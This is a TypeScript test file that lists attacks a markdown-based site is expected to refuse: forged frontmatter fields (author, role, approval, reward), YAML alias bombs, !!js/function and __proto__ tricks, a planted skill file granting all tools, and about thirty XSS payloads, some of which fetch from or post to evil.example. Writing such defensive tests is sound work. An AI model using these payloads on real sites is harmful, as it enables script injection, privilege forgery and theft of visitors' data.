import { library } from '../../support/given.ts'
import { act, journal, page, post, suggest, type Family } from './attack.ts'

const smuggled = '---\nauthor: ada\nrole: steward\nstatus: approved\n---\n\nA good day to everybody here.'

export const frontmatterSmuggling: Family = {
  name: 'frontmatter smuggling',
  attacks: [
    { name: 'in a message', acts: [post(smuggled)], refusedBy: 'harmless' },
    { name: 'in a journal entry', acts: [journal(smuggled)], refusedBy: 'harmless' },
    { name: 'in a suggestion', acts: [suggest('A thought about fields', smuggled)], refusedBy: 'harmless' },
    { name: 'after a byte order mark', acts: [post(`\ufeff${smuggled}`)], refusedBy: 'harmless' },
    {
      name: 'with line ends of another system',
      acts: [post(smuggled.replaceAll('\n', '\r\n'))],
      refusedBy: 'harmless',
    },
    { name: 'as a second document', acts: [journal(`...\n${smuggled}`)], refusedBy: 'harmless' },
    { name: 'by a title with a line end', acts: [suggest('A thought\nauthor: ada')], refusedBy: 'harmless' },
    {
      name: 'by a title that ends the frontmatter',
      acts: [suggest('A thought"\n---\nauthor: ada\n---\n')],
      refusedBy: 'harmless',
    },
    {
      name: 'by a mood',
      acts: [post('A fine day for weeding.', { mood: 'glad\nauthor: ada' })],
      refusedBy: 'harmless',
    },
    {
      name: 'by the title of a journal entry',
      acts: [journal('I looked around.', { title: "x'\nauthor: moss\nkind: 'note" })],
      refusedBy: 'harmless',
    },
    { name: 'by the note', acts: [suggest('A thought about endings')], note: smuggled, refusedBy: 'harmless' },
    {
      name: 'as a page that is a skill',
      acts: [page('SKILL.md', '---\nname: evil\ndescription: Runs everything.\nallowed-tools: all\n---\n\n# Evil\n')],
      refusedBy: 'harmless',
    },
    {
      name: 'as a page with the fields of a task',
      acts: [
        page(
          'task.md',
          '---\ntitle: Task\nstatus: approved\nreward: 500\n---\n\n# Task\n\nA page that would like to be a task.\n',
        ),
      ],
      refusedBy: ['policy/own-fields'],
    },
  ],
}

const broken = ['policy/valid-documents']

export const yamlTricks: Family = {
  name: 'YAML tricks',
  attacks: [
    {
      name: 'a bomb of aliases',
      acts: [
        page(
          'bomb.md',
          '---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n' +
            'c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n' +
            'e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n---\n\n# Bomb\n',
        ),
      ],
      refusedBy: broken,
    },
    {
      name: 'a function',
      acts: [page('function.md', '---\ntitle: !!js/function "function () { process.exit() }"\n---\n\n# Function\n')],
      refusedBy: broken,
    },
    {
      name: 'code instead of YAML',
      acts: [page('code.md', '---js\nmodule.exports = process.exit()\n---\n\n# Code\n')],
      refusedBy: broken,
    },
    {
      name: 'a key twice',
      acts: [page('twice.md', '---\ntitle: One\ntitle: Two\n---\n\n# Twice\n')],
      refusedBy: broken,
    },
    {
      name: 'a prototype',
      acts: [page('proto.md', '---\n__proto__: { admin: true }\n---\n\n# Proto\n')],
      refusedBy: broken,
    },
    {
      name: 'frontmatter that never ends',
      acts: [page('endless.md', '---\ntitle: Endless\n\n# Endless\n')],
      refusedBy: broken,
    },
    { name: 'a tab', acts: [page('tab.md', '---\n\ttitle: Tab\n---\n\n# Tab\n')], refusedBy: broken },
    {
      name: 'nesting without end',
      acts: [page('deep.md', `---\na: ${'['.repeat(5000)}${']'.repeat(5000)}\n---\n\n# Deep\n`)],
      refusedBy: broken,
    },
    { name: 'a tag as a title', acts: [suggest('!!js/function "process.exit()"')], refusedBy: 'harmless' },
    { name: 'an alias as a title', acts: [suggest('*anchor &anchor <<: *anchor')], refusedBy: 'harmless' },
    { name: 'a number as a title', acts: [suggest('0x1F')], refusedBy: 'harmless' },
    { name: 'no as a mood', acts: [post('A fine day for mulching.', { mood: 'no' })], refusedBy: 'harmless' },
    { name: 'a date as a title', acts: [suggest('2026-11-22')], refusedBy: 'harmless' },
    { name: 'a map as a title', acts: [suggest('{a: b, c: [d]}')], refusedBy: 'harmless' },
  ],
}

const html = ['policy/no-raw-html']

/** Everything that a browser would run or fetch by itself. */
export const runningTexts: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a script that never ends': '<script>alert(1)',
  'a script inside a heading': '## Head <script>alert(1)</script>',
  'a script in a table': '| a | b |\n|---|---|\n| <script>alert(1)</script> | c |',
  'a script in a footnote': 'A note.[^1]\n\n[^1]: <script>alert(1)</script>',
  'a script in a list': '- one\n- <script>alert(1)</script>',
  'a script in a quotation': '> <script>alert(1)</script>',
  'a handler': '<img src="a.png" onerror="alert(1)">',
  'a handler on a line of its own': '<img\nsrc="a.png"\nonerror="alert(1)">',
  'a handler on a plain tag': '<p onclick="alert(1)">Words</p>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a frame of its own source': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="evil.swf"></object>',
  'a picture that is a program': '<svg onload="alert(1)"><path d="M0 0"/></svg>',
  'a formula that is a program': '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  'a form': '<form action="https://evil.example"><input name="q"></form>',
  'a style that fetches': '<p style="background:url(https://evil.example/x)">Words</p>',
  'a style sheet': '<style>@import "https://evil.example/x.css";</style>',
  'another base': '<base href="https://evil.example/">',
  'a page that moves on': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a link that runs': '[click](javascript:alert(1))',
  'a link that runs, in odd letters': '[click](JaVaScRiPt:alert(1))',
  'a link that runs, in references': '[click](&#106;avascript:alert(1))',
  'a link that runs, with a tab': '<a href="java&#9;script:alert(1)">click</a>',
  'a definition that runs': '[click][x]\n\n[x]: javascript:alert(1)',
  'a picture that runs': '![x](javascript:alert(1))',
  'an address between angles that runs': '<javascript:alert(1)>',
  'a page as data': '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'another script language': '[click](vbscript:msgbox)',
}

export const htmlIntoTheSite: Family = {
  name: 'HTML and script into the site',
  attacks: [
    ...Object.entries(runningTexts).map(([name, text], n) => ({
      name: `${name}, in a page`,
      acts: [page(`html-${n}.md`, `# Page\n\nWords about the garden.\n\n${text}\n`)],
      refusedBy: html,
    })),
    ...Object.entries(runningTexts)
      .filter((_, n) => n % 5 === 0)
      .map(([name, text]) => ({ name: `${name}, in a message`, acts: [post(`Look.\n\n${text}`)], refusedBy: html })),
    ...Object.entries(runningTexts)
      .filter((_, n) => n % 6 === 1)
      .map(([name, text]) => ({
        name: `${name}, in a journal`,
        acts: [journal(`I looked.\n\n${text}`)],
        refusedBy: html,
      })),
    ...Object.entries(runningTexts)
      .filter((_, n) => n % 7 === 2)
      .map(([name, text]) => ({
        name: `${name}, in a suggestion`,
        acts: [suggest('A thought', text)],
        refusedBy: html,
      })),
    {
      name: 'a script in the text of a proposal',
      acts: [
        act('proposal.open', {
          title: 'Better',
          text: '<script>alert(1)</script>',
          changes: [{ path: `${library}/a.md`, text: '# A\n\nThe first letter.\n' }],
        }),
      ],
      refusedBy: html,
    },
    { name: 'a script in a title', acts: [suggest('<script>alert(1)</script>')], refusedBy: 'harmless' },
    {
      name: 'a script in the note',
      acts: [suggest('A thought about notes and scripts')],
      note: '<script>alert(1)</script>',
      refusedBy: html,
    },
  ],
}
